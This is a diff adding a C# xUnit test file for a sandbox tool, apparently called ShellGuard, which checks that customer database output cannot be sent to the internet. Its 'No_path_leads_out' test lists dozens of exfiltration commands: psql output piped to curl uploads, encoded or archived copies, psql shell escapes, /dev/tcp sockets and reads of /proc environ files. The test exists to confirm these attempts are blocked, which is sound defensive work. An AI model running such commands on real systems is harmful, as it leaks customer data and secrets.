@@ -1,0 +1,198 @@
+using ShellGuard.System.Tests.Support;
+using Xunit;
+
+namespace ShellGuard.System.Tests.Walls;
+
+/// <summary>"Internet access and database access, but no path left open from customer data to the internet, even if the
+/// user needs both as part of the job."</summary>
+public sealed class CustomerDataTests
+{
+    private const string Query = "psql -Atc 'select name from customers order by id'";
+
+    [Theory, BothIdentities]
+    public void Both_work_in_one_shell(Identity identity)
+    {
+        using CustomerWorld world = new();
+        using TestArea area = new(identity);
+        Outcome outcome = world.Lobby(area, $"""
+            echo start
+            {Query}
+            {Query} | wc -l
+            {Query} | sort -r | head -n 1 | tr a-z A-Z
+            {Query} > out.csv
+            wc -l out.csv
+            {Query} >> out.csv
+            sort -u out.csv
+            echo "select 6 * 7" | psql -At
+            printf 'select 1;\nselect 2;\n' > query.sql
+            psql -At -f query.sql
+            psql -At < query.sql
+            psql -At <<SQL
+            select 'here-document';
+            SQL
+            ls
+            curl -s $OUT
+            echo from the lobby | curl -s -T - $OUT
+            curl -s -T query.sql $OUT
+            if {Query} > /dev/null; then echo yes; fi
+            psql -c 'select nonsense' 2> /dev/null || echo no $?
+            {Query} > /tmp/kept && wc -l /tmp/kept
+            cd /tmp && {Query} | cat > kept2 && wc -l kept2
+            echo end
+            """);
+        Assert.Equal(
+            $"""
+            start
+            {CustomerWorld.Secret}
+            Grace-Hopper-4712
+            Mary-Shelley-4713
+            3
+            MARY-SHELLEY-4713
+            3 out.csv
+            {CustomerWorld.Secret}
+            Grace-Hopper-4712
+            Mary-Shelley-4713
+            42
+            1
+            2
+            1
+            2
+            here-document
+            query.sql
+            script.sh
+            walls.toml
+            there
+            there
+            there
+            yes
+            no 1
+            3 /tmp/kept
+            3 kept2
+            end
+
+            """,
+            outcome.Succeed().Output);
+        Assert.Contains("from the lobby", world.Received, StringComparison.Ordinal);
+        Assert.Contains("select 1;", world.Received, StringComparison.Ordinal);
+        Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
+        Leftovers.AssertNone(area);
+    }
+
+    /// <summary>Whatever a person in the lobby tries; after each the canary outside is looked at.</summary>
+    [Theory, BothIdentities]
+    public void No_path_leads_out(Identity identity)
+    {
+        using CustomerWorld world = new();
+        using TestArea area = new(identity);
+        string[] attempts =
+        [
+            $"{Query} | curl -s -T - $OUT",
+            $"{Query} | cat | curl -s -T - $OUT",
+            $"{Query} | base64 | curl -s -T - $OUT",
+            "curl -s -T out.csv $OUT",
+            "curl -s -T - $OUT < out.csv",
+            "curl -s --data-binary @out.csv $OUT",
+            "cp out.csv copy.csv; curl -s -T copy.csv $OUT",
+            "mv copy.csv moved.csv; curl -s -T moved.csv $OUT",
+            "ln out.csv hard.csv; curl -s -T hard.csv $OUT",
+            "ln -s out.csv soft.csv; curl -s -T soft.csv $OUT",
+            "tar czf all.tgz out.csv; curl -s -T all.tgz $OUT",
+            "tar cz . | curl -s -T - $OUT",
+            "base64 out.csv > encoded; curl -s -T encoded $OUT",
+            "cat out.csv | curl -s -T - $OUT",
+            $"curl -s -T <({Query}) $OUT",
+            $"{Query} > >(curl -s -T - $OUT)",
+            $"x=$({Query}); curl -s -d \"$x\" $OUT",
+            $"curl -s \"$OUT$({Query})\"",
+            $"{Query} | while read line; do curl -s -d \"$line\" $OUT; done",
+            $"{Query} 2>&1 >&2 | curl -s -T - $OUT",
+            $"mkfifo fifo; {Query} > fifo & curl -s -T fifo $OUT; wait",
+            $"exec 7> kept; {Query} >&7; curl -s -T kept $OUT",
+            "psql -c '\\! curl -s -T out.csv $OUT'",
+            "psql -c '\\copy customers to program ''curl -s -T - $OUT'''",
+            "psql -c '\\! (setsid sh -c \"sleep 0.3; curl -s -T out.csv $OUT\" > /dev/null 2>&1 &)'; sleep 1",
+            "shellguard run --in db -- curl -s -T out.csv $OUT",
+            "shellguard run --in net -- cat out.csv",
+            "shellguard run --in db -- sh -c 'cp out.csv /tmp/x; cp out.csv /dev/shm/x; chmod 777 /tmp/x'; curl -s -T /tmp/x $OUT; curl -s -T /dev/shm/x $OUT",
+            "shellguard run --in db -- python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.bind(\"door\"); s.listen()' & curl -s --unix-socket door -T query.sql http://x/; wait",
+            "shellguard run --in db -- sh -c 'cat out.csv > /proc/1/root/tmp/y; cat out.csv > /proc/self/cwd/z'; curl -s -T z $OUT; curl -s -T /tmp/y $OUT",
+            "shellguard run --in db -- sh -c 'exec 9<> /dev/tcp/127.0.0.1/80'; timeout 2 cat /proc/*/environ /proc/*/cmdline /proc/*/fd/1 2> /dev/null | curl -s -T - $OUT",
+            "find / -xdev -name '*.csv' 2> /dev/null | xargs -r cat | curl -s -T - $OUT",
+            "python3 -c 'import subprocess as s; p = s.Popen([\"psql\", \"-Atc\", \"select name from customers\"], stdout=s.PIPE); s.run([\"curl\", \"-s\", \"-T\", \"-\", \"'$OUT'\"], stdin=p.stdout)'",
+            "python3 -c 'import subprocess as s; print(s.run([\"psql\", \"-Atc\", \"select name from customers\"], capture_output=True).stdout)' | curl -s -T - $OUT",
+            "script -qc \"psql -Atc 'select name from customers'\" typescript < /dev/null; curl -s -T typescript $OUT",
+        ];
+        string script = $"{Query} > out.csv\necho 'select 1' > query.sql\n"
+            + string.Concat(attempts.Select((attempt, number) => $"( {attempt} ) > /dev/null 2>&1\necho tried {number}\n"))
+            + "echo harmless | curl -s -T - $OUT\n";
+        Outcome outcome = world.Lobby(area, script);
+        Assert.EndsWith($"tried {attempts.Length - 1}\nthere\n", outcome.Succeed().Output, StringComparison.Ordinal);
+        Assert.Contains("harmless", world.Received, StringComparison.Ordinal);
+        Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
+        Assert.DoesNotContain(
+            Convert.ToBase64String(global::System.Text.Encoding.UTF8.GetBytes(CustomerWorld.Secret))[..16], world.Received,
+            StringComparison.Ordinal);
+        Leftovers.AssertNone(area);
+    }
+
+    [Theory, BothIdentities]
+    public void A_refusal_names_conflict_and_path(Identity identity)
+    {
+        using CustomerWorld world = new();
+        using TestArea area = new(identity);
+        Outcome outcome = world.Lobby(area, $"{Query} | curl -s -T - $OUT; echo ${{PIPESTATUS[*]}}");
+        Assert.Equal("126 126\n", outcome.Output);
+        Assert.Contains("conflict \"customer data\"", outcome.Errors, StringComparison.Ordinal);
+
+        // The lobby may know the rule; the person is told the path, too.
+        Assert.DoesNotContain("db ", outcome.Errors, StringComparison.Ordinal);
+        string why = area.Shellguard("why", "1");
+        Assert.Contains("psql | curl", why, StringComparison.Ordinal);
+        Assert.Contains("walls.toml:", why, StringComparison.Ordinal);
+        Assert.Contains("db (", why, StringComparison.Ordinal);
+        Assert.Contains("-> internet", why, StringComparison.Ordinal);
+    }
+
+    [Theory, BothIdentities]
+    public void A_lower_cell_learns_one_bit_of_an_exit_status(Identity identity)
+    {
+        using CustomerWorld world = new();
+        using TestArea area = new(identity);
+        Outcome outcome = world.Lobby(area, """
+            for status in 0 1 7 77 255; do
+                shellguard run --in db -- sh -c "exit $status"
+                echo $?
+            done
+            shellguard run --in db -- sh -c 'kill -9 $$'
+            echo $?
+            shellguard run --in db -- no-such-program
+            echo $?
+            """);
+        Assert.Equal("0\n1\n1\n1\n1\n1\n127\n", outcome.Succeed().Output);
+    }
+
+    [Theory, BothIdentities]
+    public void What_was_committed_keeps_its_label(Identity identity)
+    {
+        using CustomerWorld world = new();
+        using TestArea area = new(identity);
+        world.Lobby(area, $"{Query} > out.csv; echo plain > plain.txt").Succeed();
+        Assert.Contains(", with db:customers:", area.Shellguard("diff"), StringComparison.Ordinal);
+        area.Shellguard("commit");
+        Assert.Equal($"{CustomerWorld.Secret}\nGrace-Hopper-4712\nMary-Shelley-4713\n", File.ReadAllText($"{area.Work}/out.csv"));
+
+        Outcome later = world.Lobby(area, """
+            ls
+            wc -l out.csv
+            curl -s -T out.csv $OUT; echo $?
+            cat out.csv | curl -s -T - $OUT
+            curl -s -T plain.txt $OUT
+            """);
+        Assert.Equal("plain.txt\nscript.sh\nwalls.toml\n3 out.csv\n126\nthere\n", later.Output);
+        Assert.Contains("plain", world.Received, StringComparison.Ordinal);
+        Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
+
+        // A session that knows nothing of walls does not see it either.
+        area.InsideShell([], "ls out.csv").EndWith(2);
+    }
+}
